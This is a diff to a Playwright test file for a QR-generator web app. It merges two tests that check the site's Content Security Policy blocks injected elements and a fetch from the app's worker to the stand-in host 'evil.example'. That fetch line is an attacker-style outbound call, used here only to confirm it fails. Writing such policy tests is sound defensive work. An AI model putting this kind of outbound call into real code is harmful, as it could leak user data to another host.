@@ -29,10 +29,20 @@ async function expectBlocked(
     .toEqual([expect.stringMatching(`^Policy violation: ${directive} `)])
 }
 
-test('PL-03: whatever is injected is blocked', async ({ page, complaints }) => {
+test('PL-03, PL-04: whatever is injected is blocked, and a fetch to elsewhere from our worker too', async ({
+  page,
+  complaints,
+}) => {
   complaints.announce(/Content Security Policy|Policy violation|evil\.example/)
   const dialogs = countDialogs(page)
-  await page.goto('/qr-generator')
+  const qr = new QrPage(page)
+  const [worker] = await Promise.all([page.waitForEvent('worker'), qr.open()])
+  await qr.text.fill('hello')
+  await qr.settled()
+  await expectBlocked(complaints, { name: 'a worker', directive: 'connect-src' }, async () => {
+    const outcome = worker.evaluate(() => fetch('https://evil.example/').then(String, String))
+    expect(await outcome).toMatch(/^TypeError/)
+  })
   for (const [name, { directive, ...element }] of Object.entries(ELEMENT_ATTACKS)) {
     await expectBlocked(complaints, { name, directive }, () =>
       page.evaluate(({ tag, properties }) => {
@@ -64,17 +74,4 @@ test('PL-03: nothing that a visitor types or an address carries is run', async (
   await expect(qr.advice).toBeVisible()
   await expect(page.getByRole('main').locator('script, img')).toHaveCount(0)
   expect(dialogs).toEqual([])
-})
-
-test('PL-04: a fetch to elsewhere from inside our worker is blocked by its own policy', async ({
-  page,
-  complaints,
-}) => {
-  complaints.announce(/^Policy violation: connect-src https:\/\/evil\.example/)
-  const qr = new QrPage(page)
-  const [worker] = await Promise.all([page.waitForEvent('worker'), qr.open()])
-  await qr.text.fill('hello')
-  await qr.settled()
-  const outcome = worker.evaluate(() => fetch('https://evil.example/').then(String, String))
-  expect(await outcome).toMatch(/^TypeError/)
 })
